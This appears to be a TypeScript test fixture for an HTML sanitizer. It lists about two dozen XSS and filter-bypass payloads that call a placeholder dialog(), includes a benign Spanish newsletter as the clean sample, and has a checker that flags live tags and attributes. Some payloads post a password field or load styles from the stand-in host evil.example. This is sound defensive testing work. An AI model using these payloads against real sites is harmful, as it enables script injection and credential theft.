// What hostile HTML tries, one a line; `dialog()` is what it wants to run. And one good newsletter.

export const ATTACKS: Record<string, string> = {
  script: '<script>dialog()</script>',
  onerror: '<img src=x onerror=dialog()>',
  'javascript:': '<a href="javascript:dialog()">x</a>',
  'javascript: with a line end': '<a href="java\nscript:dialog()">x</a>',
  'javascript: as an entity': '<a href="&#106;avascript&colon;dialog()">x</a>',
  'javascript: with a control character': '<a href="\u0001javascript:dialog()">x</a>',
  'data:':
    '<a href="data:text/html,<script>dialog()</script>">x</a><img src="data:image/svg+xml,<svg onload=dialog()>">',
  svg: '<svg onload=dialog()><script>dialog()</script><animate onbegin=dialog() attributeName=x></svg>',
  'math, mglyph':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=dialog()&gt;">',
  noscript: '<noscript><p title="</noscript><img src=x onerror=dialog()>">',
  comment: '<!--><img src=x onerror=dialog()>--><!-- --!><img src=x onerror=dialog()>-->',
  'conditional comment': '<!--[if gte mso 9]><script>dialog()</script><![endif]-->',
  'style url()': '<p style="background:url(javascript:dialog());width:expression(dialog())">x</p>',
  'style with an escape': '<p style="background-color:\\75rl(//evil.example/x);position:fixed;top:0">x</p>',
  'style element': '<style>@import "//evil.example/x.css";</style>',
  form: '<form action="https://evil.example"><input name=password><button formaction="javascript:dialog()">x</button></form>',
  frames:
    '<iframe srcdoc="<script>dialog()</script>"></iframe><object data="javascript:dialog()"></object><embed src="javascript:dialog()">',
  'meta, base':
    '<meta http-equiv=refresh content="0;url=javascript:dialog()"><base href="https://evil.example/"><link rel=stylesheet href="//evil.example/x">',
  'unclosed tag': '<img src=x onerror=dialog() ',
  'nested script': '<scr<script>ipt>dialog()</scr</script>ipt>',
  textarea: '<textarea><img title="</textarea><img src=x onerror=dialog()>"></textarea>',
  'relative address': '<a href="/admin">x</a><img src="//evil.example/x"><a href="\\\\evil.example">x</a>',
  xmp: '<xmp><p title="</xmp><img src=x onerror=dialog()>">',
  template: '<template><img src=x onerror=dialog()></template>',
}

export const NEWSLETTER = [
  '<table width="600" cellpadding="0" cellspacing="0" border="0" align="center" style="max-width:600px;border-collapse:collapse">',
  '<tbody><tr><td style="padding:16px 24px;background-color:#fff;font-family:Georgia, \'Times New Roman\', serif">',
  '<h1 style="color:rgb(20, 30, 40);margin:0 0 16px">Cartelera &amp; más</h1>',
  '<p lang="es">Hola, <strong>Ana</strong>: 3 &lt; 5. <br /><img src="https://example.com/nieve.png" alt="Nieve" width="300" /></p>',
  '<ul><li>Sala 5</li><li><a href="https://example.com/compras?id=1&amp;x=2">Ver mi compra</a></li></ul>',
  '<p>Preguntas: <a href="mailto:hola@example.com">hola@example.com</a>, <a href="tel:+5712345678">llámanos</a></p>',
  '<img src="cid:logo.png" alt="" /></td></tr></tbody></table>',
].join('\n')

/** What is still alive in it: elements that may not be there, handlers, live or relative addresses, loading styles. */
export function aliveIn(html: string): string[] {
  const tags = [...html.matchAll(/<\s*\/?([a-z!?][^\s/><]*)((?:"[^"]*"|[^"><])*)>?/gi)]
  return tags.flatMap(([whole, name = '', rest = '']) => {
    const attributes = [...rest.matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)]
    const bad = attributes.some(
      ([, key = '', value = '']) =>
        /^on|^srcdoc$|^formaction$|^action$/i.test(key) ||
        (/^(?:href|src)$/i.test(key) && !/^(?:https?:\/\/|mailto:|tel:|cid:)/.test(value)) ||
        (key === 'style' && /url|expression|\\|position|@/i.test(value)),
    )
    const strange =
      /^(?:script|style|svg|math|iframe|object|embed|form|input|button|meta|base|link|textarea|template|xmp|noscript|[!?])/i
    return bad || strange.test(name) ? [whole] : []
  })
}
